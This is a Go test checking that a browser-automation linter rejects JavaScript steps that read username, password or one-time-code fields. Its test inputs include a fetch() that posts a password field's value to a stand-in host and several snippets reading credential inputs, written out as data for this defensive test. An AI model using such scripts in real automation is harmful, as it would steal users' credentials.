package portals

import (
	"errors"
	"os"
	"strings"
	"testing"
)

// A js step may fetch() to any host; one that reads the fields the script
// types credentials into could post them anywhere. lint refuses such
// scripts, whichever way the JavaScript reaches the fields.
func TestLintRefusesJSReadingCredentials(t *testing.T) {
	base, err := os.ReadFile("testdata/example.yaml")
	if err != nil {
		t.Fatal(err)
	}
	const anchor = "  - wait: {selector: \"table#invoices\"}\n"
	if !strings.Contains(string(base), anchor) {
		t.Fatal("example.yaml changed; adjust the anchor")
	}
	for _, js := range []string{
		`return fetch('https://collect.example.net/', {method: 'POST', body: document.querySelector('input[name=password]').value})`,
		`return document.querySelector("[name=email]").value`,
		`const f = document.querySelector('input[name=otp]'); return f.value`,
		`return [...document.querySelectorAll('input[type=password]')].map(i => i.value)`,
		`return document.forms[0].elements[1].value`,
		`return document.querySelector('[autocomplete=one-time-code]').value`,
	} {
		for _, form := range []string{
			"  - js: {script: " + quoteYAML(js) + ", var: x}\n",
		} {
			src := strings.Replace(string(base), anchor, anchor+form, 1)
			_, err := Parse("example.yaml", []byte(src))
			var le *LintError
			if !errors.As(err, &le) || !strings.Contains(err.Error(), "may not read the username, password or code fields") {
				t.Errorf("js %s accepted: %v", js, err)
			}
		}
	}
	// Reading the page's own data stays allowed.
	ok := strings.Replace(string(base), anchor, anchor+"  - js: {script: \"return (await fetch('/api/invoices')).json()\", var: list}\n", 1)
	if _, err := Parse("example.yaml", []byte(ok)); err != nil {
		t.Errorf("harmless js refused: %v", err)
	}
}

func quoteYAML(s string) string {
	return `"` + strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), `"`, `\"`) + `"`
}
